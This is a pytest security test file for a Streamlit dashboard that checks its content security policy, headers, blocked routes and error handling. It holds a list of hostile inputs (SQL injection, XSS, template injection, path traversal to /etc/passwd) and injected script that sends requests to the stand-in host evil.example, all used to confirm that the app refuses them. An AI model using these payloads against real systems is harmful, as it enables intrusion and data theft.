"""What a hostile link, a hostile page and a hostile operator of a browser get: nothing."""

import re
import signal
import socket
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect
from streamlit.testing.v1 import AppTest

from dashboard import push, saved, security
from scripts.browser import serving
from scripts.stack import REPOSITORY, free_port
from tests.conftest import eventually
from tests.e2e.conftest import READY, Warehouse

PATHS = [f"/{path}" for path in (*saved.PAGES, "alerts")]
TOLD = "select pg_notify('mart_version', '0')"
HOSTILE = [
    "'; drop table kpi.kpi_daily_sales; --",
    '" or 1=1) union select raw_text from ops.ops_rejected_rows --',
    "{{7*7}}${7*7}%(x)s:name",
    "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'>",
    "javascript:window.hacked=1",
    "../../../etc/passwd\x00",
    "9" * 400,
    "inf",
    "nan",
    "-1e400",
]  # fmt: skip
STOP_SECONDS = 5


def test_charts_events_and_downloads_work_under_the_policy(page: Page, dashboard: str, warehouse: Warehouse) -> None:
    with page.expect_response(re.compile(push.PATH)) as events:
        page.goto(dashboard)
    assert events.value.status == 200
    # Chart by chart, something was drawn.
    expect(page.locator("canvas").first).to_be_visible()
    drawn = page.evaluate(
        "[...document.querySelectorAll('canvas')].filter(c => c.width && c.getContext('2d') && "
        "c.getContext('2d').getImageData(0, 0, c.width, c.height).data.some(v => v)).length"
    )
    assert drawn >= 4
    warehouse.sql("update ops.mart_version set mart_version = mart_version + 1")
    [(version,)] = warehouse.sql("select mart_version from ops.mart_version")
    warehouse.sql(TOLD)
    expect(page.get_by_role("button", name=f"Version {version}")).to_be_visible()
    page.goto(f"{dashboard}/pipeline")
    with page.expect_download() as download:
        page.locator(".st-key-download-rejected-rows-CSV button").click()
    assert re.fullmatch(r"rejected-rows-newest-v\d+\.csv", download.value.suggested_filename)


def test_the_policy_keeps_foreign_code_and_places_out(page: Page, dashboard: str) -> None:
    page.goto(dashboard)
    expect(page.locator(READY)).to_be_visible()
    page.evaluate(
        """() => {
        const add = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set));
        add("script", {textContent: "window.inline = 1"});
        add("script", {src: "data:text/javascript,window.data = 1"});
        add("div", {innerHTML: "<img src=x onerror='window.handler = 1'>"});
        add("iframe", {src: "https://evil.example/"});
        window.refused = [];
        document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
        fetch("https://evil.example/?figures").catch(() => {});
        new Image().src = "https://evil.example/?figures";
        }"""
    )
    page.wait_for_function("window.refused.includes('connect-src') && window.refused.includes('img-src')")
    assert page.evaluate("[window.inline, window.data, window.handler].every(each => !each)")
    assert "unsafe-eval" not in security.POLICY["script-src"]
    assert "'unsafe-inline'" not in security.POLICY["script-src"]


@pytest.mark.parametrize("path", ["/", "/changes", "/_stcore/health", "/nothing-here.css"])
def test_every_answer_has_the_headers(dashboard: str, path: str) -> None:
    try:
        with urllib.request.urlopen(dashboard + path, timeout=5) as answer:
            headers = answer.headers
    except urllib.error.HTTPError as error:
        headers = error.headers
        error.close()
    assert {name: headers[name] for name in security.HEADERS} == security.HEADERS


@pytest.mark.parametrize(
    ("forwarded", "told"),
    [("https", True), ("https, http", True), ("http, https", False), ("http", False), ("", False)],
)
def test_who_came_by_https_is_told_to_stay_with_it(dashboard: str, forwarded: str, told: bool) -> None:
    request = urllib.request.Request(dashboard, headers={"X-Forwarded-Proto": forwarded})
    with urllib.request.urlopen(request, timeout=5) as answer:
        assert ("Strict-Transport-Security" in answer.headers) is told


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("PUT", "/_stcore/upload_file/session/file"),
        ("DELETE", "/_stcore/upload_file/session/file"),
        ("GET", "/_stcore/metrics"),
    ],
)
def test_routes_that_no_page_needs_are_not_served(dashboard: str, method: str, path: str) -> None:
    request = urllib.request.Request(dashboard + path, data=b"x" if method == "PUT" else None, method=method)
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=5)
    assert refused.value.code == 404
    refused.value.close()


def test_the_event_route_tells_a_number_and_nothing_else(dashboard: str, warehouse: Warehouse) -> None:
    route = f"{dashboard}{push.PATH}?channel=rebuild_queue&last=%27"
    with urllib.request.urlopen(route, timeout=30) as answer:
        assert answer.headers["Content-Type"].startswith("text/event-stream")
        lines = [answer.readline().decode() for _ in range(3)]
        warehouse.sql("select pg_notify('mart_version', 'secret figures')")
        lines += [answer.readline().decode() for _ in range(2)]
    assert all(re.fullmatch(r"(retry: 2000|data: \d+|:)?\n", line) for line in lines), lines
    assert sum(line.startswith("data:") for line in lines) == 2
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(urllib.request.Request(route, data=b"{}"), timeout=5)
    assert refused.value.code == 405
    refused.value.close()


def test_sigterm_ends_the_server_while_pages_are_open(warehouse: Warehouse, page: Page, tmp_path: Path) -> None:
    with serving(warehouse.dashboard_url, tmp_path) as (address, process):
        page.goto(address)
        expect(page.locator(READY)).to_be_visible()
        server = ("127.0.0.1", int(address.rsplit(":", 1)[1]))
        with socket.create_connection(server, timeout=30) as stream:
            stream.sendall(f"GET {push.PATH} HTTP/1.1\r\nHost: dashboard\r\n\r\n".encode())
            assert b"200 OK" in stream.recv(65536)
            process.send_signal(signal.SIGTERM)
            process.wait(STOP_SECONDS)
            assert b"".join(iter(lambda: stream.recv(65536), b"")).endswith(b"0\r\n\r\n"), "the stream was cut off"
        with socket.socket() as probe:
            assert probe.connect_ex(server) != 0


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: value[:12])
def test_hostile_values_in_a_link_are_values(app: AppTest, warehouse: Warehouse, value: str) -> None:
    """A widget reads the link when it is first drawn: the filters in the first run, a page's when it is opened."""
    before = warehouse.sql("select sum(net_sales), count(*) from kpi.kpi_daily_sales")
    for script in (None, *saved.PAGES.values(), "views/alerts.py"):
        # Nothing is found by such a search, and what is below it would not be drawn.
        for name in (*saved.PARAMETERS - {"search"}, "order", "explain", "unheard-of"):
            app.query_params[name] = [value, value] if name == "dates" else value
        if script:
            app.switch_page(script)
        app.run()
        assert not app.exception, (script, app.exception)
        assert not [each.value for each in app.error if "database" in each.value.lower()]
        shown = [each.value for each in (*app.warning, *app.markdown, *app.caption, *app.title)]
        assert re.fullmatch(r"[\w-]+", value) or not [text for text in shown if value in text], "markup is escaped"
    assert warehouse.sql("select sum(net_sales), count(*) from kpi.kpi_daily_sales") == before


@pytest.mark.parametrize(
    "dates", [*([value, value] for value in HOSTILE), ["2026-03-20", "2026-03-01"]], ids=lambda dates: dates[0][:12]
)
def test_dates_that_cannot_be_are_named_and_the_usual_ones_shown(app: AppTest, dates: list[str]) -> None:
    app.query_params["period"], app.query_params["dates"] = "Custom", dates
    app.run()
    assert not app.exception
    assert [each.value.rpartition(": ")[2] for each in app.warning] == ["`dates`."]
    assert app.title[0].value == "Overview · 4 to 31 Mar 2026"


def test_hostile_links_run_nothing_in_a_browser(page: Page, dashboard: str) -> None:
    for path in PATHS:
        query = "&".join(f"{name}={urllib.parse.quote(HOSTILE[3])}" for name in sorted(saved.PARAMETERS))
        page.goto(f"{dashboard}{path}?{query}")
        expect(page.locator("h1")).to_be_visible()
        expect(page.get_by_test_id("stException")).to_have_count(0)
        assert page.evaluate("window.hacked") is None


def test_a_fault_of_ours_is_told_to_the_log_and_not_to_the_reader(page: Page, tmp_path: Path) -> None:
    """Streamlit's configuration is the project's; the script has a fault, as any of ours might."""
    script, port = tmp_path / "faulty.py", free_port()
    script.write_text("password = 'top secret'\nraise ValueError(f'cannot log in with {password}')\n")
    command = [
        sys.executable,
        "-m",
        "streamlit",
        "run",
        str(script),
        "--server.port",
        str(port),
        "--server.headless",
        "true",
    ]
    log = tmp_path / "log"
    with log.open("w") as output, subprocess.Popen(command, cwd=REPOSITORY, stdout=output, stderr=output) as process:
        try:
            eventually("the server", lambda: "You can now view" in log.read_text())
            page.goto(f"http://127.0.0.1:{port}")
            expect(page.get_by_test_id("stException")).to_be_visible()
            text = page.locator("body").inner_text()
            assert not re.search(r"secret|ValueError|faulty\.py|Traceback", text), text
            assert "top secret" in log.read_text()
        finally:
            process.terminate()
